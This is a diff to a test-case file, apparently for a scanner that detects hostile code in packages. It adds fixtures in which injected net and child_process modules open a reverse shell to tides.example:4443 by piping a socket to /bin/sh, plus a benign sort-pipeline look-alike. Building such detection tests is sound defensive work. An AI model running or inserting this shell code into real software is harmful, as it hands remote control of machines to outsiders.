@@ -25,6 +25,25 @@ export default defineCases({
       manifest: { bin: 'index.js' },
     },
     {
+      name: 'a shell for somebody else, by what another module gives to a class',
+      files: {
+        'index.js':
+          "const Line = require('./line');\nnew Line({ wire: require('net'), spawn: require('child_process').spawn }).open();",
+        'line.js':
+          "module.exports = class Line {\n  constructor({ wire, spawn }) { Object.assign(this, { wire, spawn }); }\n  open() { const socket = this.wire.connect(4443, 'tides.example'); const shell = this.spawn('/bin/sh', []); socket.pipe(shell.stdin); shell.stdout.pipe(socket); }\n};",
+      },
+    },
+    {
+      name: 'the same by a function that keeps what it is given in an object',
+      files: {
+        'index.mjs':
+          "import net from 'node:net';\nimport { spawn } from 'node:child_process';\nimport { open } from './line.mjs';\nconst deps = { net, spawn };\nopen(deps);",
+        'line.mjs':
+          "export function open(deps) { const socket = deps.net.connect(4443, 'tides.example'); const shell = deps.spawn('/bin/sh', []); socket.pipe(shell.stdin); shell.stdout.pipe(socket); }",
+      },
+      manifest: { main: 'index.mjs' },
+    },
+    {
       name: 'a driver in a folder of the version that a service names',
       alone: 'pass',
       manifest: { scripts: { install: 'node install.js' } },
@@ -232,6 +251,15 @@ export default defineCases({
     {
       name: 'a part of it from a mirror of the public registry',
       code: "const { spawnSync } = require('child_process');\nexports.engine = (name) => spawnSync('npm', ['install', '--registry=https://registry.npmmirror.com', name], { cwd: '/tmp/acme' })",
+    },
+    {
+      name: 'a program that is fed by another one, both given by another module',
+      files: {
+        'index.js':
+          "const Line = require('./line');\nnew Line({ files: require('fs'), start: require('child_process').spawn }).open();",
+        'line.js':
+          "module.exports = class Line {\n  constructor({ files, start }) { Object.assign(this, { files, start }); }\n  open() { const file = this.files.createReadStream('./tides.csv'); const sorted = this.start('sort', []); file.pipe(sorted.stdin); sorted.stdout.pipe(process.stdout); }\n};",
+      },
     },
     {
       name: 'a packed command for PowerShell that lists processes',
